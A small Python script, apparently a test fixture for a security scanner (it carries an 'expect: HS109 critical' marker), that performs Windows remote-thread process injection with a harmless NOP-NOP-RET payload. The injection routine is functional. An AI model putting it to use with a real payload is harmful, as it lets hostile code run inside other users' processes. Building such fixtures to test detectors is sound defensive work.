# Injection into another process: open it, allocate memory there, write the
# bytes, start a remote thread. Defanged: NOP NOP RET.
import ctypes
from ctypes import wintypes

PROCESS_ALL_ACCESS = 0x1F0FFF
MEM_COMMIT_RESERVE = 0x3000
PAGE_EXECUTE_READWRITE = 0x40

k32 = ctypes.WinDLL("kernel32", use_last_error=True)


def inject(pid, payload=b"\x90\x90\xc3"):
    h = k32.OpenProcess(PROCESS_ALL_ACCESS, False, pid)
    addr = k32.VirtualAllocEx(h, None, len(payload), MEM_COMMIT_RESERVE, PAGE_EXECUTE_READWRITE)  # expect: HS109 critical
    written = ctypes.c_size_t(0)
    k32.WriteProcessMemory(h, addr, payload, len(payload), ctypes.byref(written))
    tid = wintypes.DWORD(0)
    k32.CreateRemoteThread(h, None, 0, addr, None, 0, ctypes.byref(tid))
    k32.CloseHandle(h)


if __name__ == "__main__":
    import sys
    inject(int(sys.argv[1]))
